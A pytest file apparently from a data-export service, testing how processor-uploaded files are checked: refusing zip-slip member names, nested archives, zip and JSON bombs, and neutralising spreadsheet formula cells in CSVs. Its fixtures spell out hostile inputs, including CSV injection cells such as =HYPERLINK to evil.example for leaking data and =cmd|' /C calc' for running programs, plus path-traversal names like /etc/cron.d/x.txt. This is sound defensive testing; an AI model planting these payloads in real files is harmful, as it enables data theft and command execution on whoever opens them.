"""The files a processor without an API uploads, one at a time and without the stack: what their
content decides (accepted or refused, and why; a ZIP whose member names leave its folder), and how
a processor's CSV is copied into the subject's package, its formula cells neutralised whichever
separator a spreadsheet splits on. The upload end to end, on the real stack:
tests/test_processor_exports.py."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest

from tests.test_processor_exports import ANSWERS, _zip

UNSAFE_MEMBER_NAME = ("its name must be a relative path without a leading /, a drive letter, '..', "
                      "backslashes or control characters")


@pytest.mark.parametrize(("name", "data", "problem"), [
    ("inner.zip", _zip({"nested.zip": _zip({"a.csv": b"x\n"})}), "nested.zip: only .json, .csv, .pdf, .txt files"),
    ("notes.txt", "Grüße".encode("utf-16"), "notes.txt: is not plain text"),
    ("data.json", b"not json at all", "data.json: is not JSON"),
    ("bomb.zip", _zip({"big.csv": b"0" * (5 * 1024 * 1024)}), "bomb.zip: unpacks to more than 4 MB"),
    ("empty.csv", b"", "empty.csv: the file is empty"),
    ("page.txt", b"\n  <!DOCTYPE html><p>hi</p>", "page.txt: looks like HTML or other markup"),
])
def test_content_decides_what_is_accepted(name, data, problem):
    """Unit-level companions of the upload test: what the page would answer 413/422 with."""
    from api.callbacks.export_files import ContentCheck, RefusedFile, kind_for

    kinds = ("json", "csv", "pdf", "text", "zip")
    with pytest.raises(RefusedFile, match=re.escape(problem)):
        check = ContentCheck(name, kind_for(name, kinds), 1024 * 1024, kinds)
        check.feed(data)
        check.finish()


@pytest.mark.parametrize(("member", "shown"), [
    ("../../x.csv", "../../x.csv"),
    ("ok/../../x.csv", "ok/../../x.csv"),
    ("/etc/cron.d/x.txt", "/etc/cron.d/x.txt"),
    ("C:\\Windows\\x.txt", "C:\\Windows\\x.txt"),
    ("C:x.txt", "C:x.txt"),
    ("folder\\x.csv", "folder\\x.csv"),
    ("a\r\nb.csv", "a??b.csv"),
    ("report\u202egpj.txt", "report?gpj.txt"),  # the right-to-left override that disguises a name
    ("../up/", "../up/"),  # a folder's entry
])
def test_a_zip_whose_member_names_leave_the_folder_it_unpacks_into_is_refused(member, shown):
    """A processor's ZIP reaches the subject's package as it is, and the subject unpacks it: a
    member named `../../x.csv`, `/etc/cron.d/x.txt` or `C:\\Windows\\x.txt` would land outside the
    folder (zip slip), and control characters hide or disguise a name. The upload is refused,
    naming the member. Before, only each member's extension was checked."""
    from api.callbacks.export_files import ContentCheck, RefusedFile

    kinds = ("json", "csv", "pdf", "text", "zip")
    check = ContentCheck("all.zip", "zip", 1024 * 1024, kinds)
    check.feed(_zip({"a.csv": b"x,y\n", member: b"x\n"}))
    with pytest.raises(RefusedFile) as refused:
        check.finish()
    assert refused.value.message == f"all.zip: {shown}: {UNSAFE_MEMBER_NAME}"


def test_a_zip_of_accepted_files_and_json_with_a_byte_order_mark_are_accepted():
    from api.callbacks.export_files import ContentCheck, kind_for

    kinds = ("json", "csv", "pdf", "text", "zip")
    for name, data, media_type in [
        ("all.zip", _zip({"a.csv": b"x,y\n1,2\n", "d/b.json": b"[1]", "c.pdf": b"%PDF-1.7\n%%EOF\n"}),
         "application/zip"),
        ("bom.json", "\ufeff{\"ok\": true}".encode(), "application/json"),
        ("half.json", b'["\\ud83d"]', "application/json"),  # half an emoji: Python reads it, the file goes as sent
    ]:
        check = ContentCheck(name, kind_for(name, kinds), 1024 * 1024, kinds)
        check.feed(data)
        assert check.finish() == media_type


def _copied(write, data: bytes, cut: int = 7) -> bytes:
    """What the package holds of an uploaded file, its decrypted chunks cut at `cut`."""
    out = io.BytesIO()
    write([data[:cut], data[cut:]], out)
    return out.getvalue()


def test_a_processors_csv_reaches_the_package_with_its_formula_cells_neutralised():
    """Whoever holds a processor's link could upload a CSV cell that a spreadsheet runs
    (=HYPERLINK leaks data, =cmd|... runs programs) for the subject, or compliance, to open. Such
    a cell gets an apostrophe, as in our own CSVs; a record without one, and a file without one,
    stay byte for byte as sent (the summary's size and SHA-256 still match). Before, the file
    was copied as it came."""
    from activities.processor_csv import write_csv, write_zip

    sent = (b'name;phone;amount;note\r\nAda;;-12.50;"plain, with a comma"\r\n'
            b'Eve;+32 470 10 18 15;3;"=HYPERLINK(""https://evil.example/?""&A2,""x"")"\r\n'
            b'Mal;;1e-5;"@SUM(1+1)\r\ncmd|\' /C calc\'!A0"\r\n')
    copied = _copied(write_csv, sent).decode()
    rows = list(csv.reader(io.StringIO(copied, newline=""), delimiter=";"))
    assert rows[1] == ["Ada", "", "-12.50", "plain, with a comma"]
    assert rows[2] == ["Eve", "'+32 470 10 18 15", "3", "'=HYPERLINK(\"https://evil.example/?\"&A2,\"x\")"]
    assert rows[3] == ["Mal", "", "1e-5", "'@SUM(1+1)\r\ncmd|' /C calc'!A0"]
    assert copied.startswith('name;phone;amount;note\r\nAda;;-12.50;"plain, with a comma"\r\n')  # untouched
    assert _copied(write_csv, ANSWERS) == ANSWERS
    latin = b"caf\xe9,=1+1\n"  # not UTF-8: its bytes pass through
    assert _copied(write_csv, latin) == b"caf\xe9,'=1+1\n"

    archive = _zip({"a.csv": b"x,y\n=1+1,2\n", "d/b.json": b'["=1+1"]'})
    with zipfile.ZipFile(io.BytesIO(_copied(write_zip, archive))) as copy:
        assert copy.read("a.csv") == b"x,y\n'=1+1,2\n" and copy.read("d/b.json") == b'["=1+1"]'


def test_a_formula_is_neutralised_whichever_separator_the_spreadsheet_splits_on():
    """Excel splits a CSV on the separator of the reader's locale (a comma, or a semicolon in
    Belgium, the Netherlands, France, Germany), not on the one the file's first line uses. Before,
    only cells split by the first line's separator were neutralised, so a record using another
    one carried its formula through."""
    from activities.processor_csv import write_csv

    semicolons = b"name;email\r\nx,=cmd|' /C calc'!A0\r\n"
    assert _copied(write_csv, semicolons) == b"name;email\r\nx,'=cmd|' /C calc'!A0\r\n"
    commas = b'name,email\nx;=HYPERLINK("https://evil.example/?"&A1)\ny|"@SUM(1+1)",z\tz\t+1 2\n'
    assert _copied(write_csv, commas) == (b'name,email\nx;\'=HYPERLINK("https://evil.example/?"&A1)\n'
                                          b'y|"\'@SUM(1+1)",z\tz\t\'+1 2\n')
    # Numbers, and a tab-separated file's empty first cell, are no formula under any separator.
    for harmless in (b"id,amount\n7;-12.50\n8|+3\n9\t1e-5\n", b"\tid\tamount\n\t7\t-12.50\n"):
        assert _copied(write_csv, harmless) == harmless


def test_a_csv_with_a_cell_over_128_kib_still_reaches_the_package():
    """A long notes column, or a quote left open: the csv module refuses a field over 128 KiB by
    default, so the subject's package failed on every retry. Now the record goes through, and a
    formula after it is still neutralised."""
    from activities.processor_csv import write_csv

    long = b"name,notes\r\nx," + b"a" * 200_000 + b"\r\n=y,1\r\n"
    assert _copied(write_csv, long) == long.replace(b"\r\n=y", b"\r\n'=y")


def _records(size: int) -> bytes:
    """JSON of real-looking records (about 11 bytes a value) of about `size` bytes."""
    record = b'{"id": 123456, "email": "ada@example.com", "created": "2024-05-01T10:00:00Z", "plan": "pro"}'
    return b"[" + b",".join([record] * (size // (len(record) + 1))) + b"]"


def test_json_of_more_values_than_an_export_holds_is_refused_before_it_is_parsed():
    """JSON of tiny values (`[{},{},...]`) parsed whole takes 25 times its bytes: a 25 MB upload
    took the API 640 MB, and a ZIP of 100 KB, its 100 MB member deflated a thousand to one, 2.6 GB,
    the API's event loop held meanwhile. Now a JSON file, sent alone or in a ZIP, holding more
    than one value for each 16 bytes of its limit is refused, naming it, before any parser sees it
    (the memory it takes to find out is a few times the file's). An export of real records up to
    half the limit is taken. Before, both files were parsed, and taken."""
    import tracemalloc

    from api.callbacks.export_files import ContentCheck, RefusedFile, kind_for

    kinds, mib = ("json", "csv", "zip"), 1024 * 1024
    dense = b"[" + b"{}," * (4 * mib // 3 - 1) + b"{}]"  # 4 MiB, 2.8 million values
    for name, data, limit, said in [
        ("export.json", dense, 4 * mib,
         "export.json: is not JSON we can read: it holds far more than an export does (holds more than 262,144 "
         "JSON values); send it as CSV or in several files"),
        ("export.zip", _zip({"all/export.json": dense}), mib,  # a member may unpack to 4 times the limit
         "export.zip: all/export.json: is not JSON we can read: it holds far more than an export does (holds "
         "more than 262,144 JSON values); send it as CSV or in several files"),
    ]:
        check = ContentCheck(name, kind_for(name, kinds), limit, kinds)
        tracemalloc.start()
        try:
            with pytest.raises(RefusedFile) as refused:
                for at in range(0, len(data), 64 * 1024):  # as an upload streams in
                    check.feed(data[at:at + 64 * 1024])
                check.finish()
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        assert refused.value.message == said and refused.value.status == 413
        assert peak < 48 * mib, f"{name}: {peak / mib:.0f} MiB to check 4 MiB of JSON"
    for name, data in [("export.json", _records(mib // 2)), ("export.zip", _zip({"d.json": _records(2 * mib)}))]:
        check = ContentCheck(name, kind_for(name, kinds), mib, kinds)
        check.feed(data)
        assert check.finish() in ("application/json", "application/zip")


def test_a_zip_of_more_files_than_an_export_holds_is_refused_before_it_is_read():
    """270,000 one-byte files fit in a 24 MB ZIP, and zipfile reads each entry of its directory
    into an object before anything can be checked: the API's event loop was held 8 seconds and
    its memory grew 440 MB, to take the archive. Now more than 10,000 files and folders are
    refused (413), naming the archive, before zipfile reads it; 10,000 are taken."""
    from api.callbacks.export_files import MAX_MEMBERS, ContentCheck, RefusedFile

    def many(count: int) -> bytes:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            for n in range(count):
                archive.writestr(f"{n}.txt", b"a")
        return buffer.getvalue()

    assert MAX_MEMBERS == 10_000
    kinds = ("text", "zip")
    check = ContentCheck("many.zip", "zip", 4 * 1024 * 1024, kinds)
    check.feed(many(MAX_MEMBERS + 1))
    with pytest.raises(RefusedFile) as refused:
        check.finish()
    assert refused.value.status == 413
    assert refused.value.message == ("many.zip: the ZIP archive holds more than 10000 files and folders: "
                                     "send fewer, larger files")
    taken = ContentCheck("many.zip", "zip", 4 * 1024 * 1024, kinds)
    taken.feed(many(MAX_MEMBERS))
    assert taken.finish() == "application/zip"
